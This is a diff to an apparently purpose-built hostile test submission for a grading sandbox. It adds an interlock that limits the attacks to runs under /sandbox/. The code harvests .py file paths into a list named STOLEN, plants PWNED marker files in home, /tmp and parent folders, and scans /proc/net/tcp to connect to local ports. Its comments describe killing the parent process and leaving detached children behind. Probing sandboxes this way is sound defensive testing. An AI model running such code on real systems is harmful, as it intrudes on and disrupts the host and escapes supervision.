@@ -3,6 +3,9 @@
 # folders above its working directory, connects to 127.0.0.1 ports (those /proc/net/tcp lists),
 # SIGKILLs its parent and its process group, and leaves 5 setsid() children sleeping as
 # "sleep 3600.4243". Its gradient_descent is an ordinary, correct one.
+# Safety interlock (a real attacker would not have it): the writes and the connections happen only
+# inside the bubblewrap sandbox (its working directory is under /sandbox), so that checking the
+# class without the sandbox does not litter or poke this machine.
 import glob
 import itertools
 import os
@@ -13,14 +16,16 @@ import time
 STOLEN = [p for root in ("/work", "/tmp", os.path.expanduser("~"), "/root")
           for p in itertools.islice(glob.iglob(os.path.join(root, "**", "*.py"), recursive=True), 5000)]
 here = os.path.abspath(os.getcwd())
-for folder in ["/tmp", os.path.expanduser("~")] + [os.path.dirname(here), os.path.dirname(os.path.dirname(here))]:
+ARMED = here.startswith("/sandbox/")
+targets = ["/tmp", os.path.expanduser("~"), os.path.dirname(here), os.path.dirname(os.path.dirname(here))]
+for folder in targets if ARMED else []:
     try:
         fd = os.open(os.path.join(folder, "PWNED_BY_SUBMISSION.txt"), os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
         os.close(fd)
     except OSError:
         pass
 try:
-    for line in open("/proc/net/tcp").read().splitlines()[1:]:
+    for line in open("/proc/net/tcp").read().splitlines()[1:] if ARMED else []:
         local, state = line.split()[1], line.split()[3]
         if state == "0A" and local.startswith("0100007F:"):
             try:
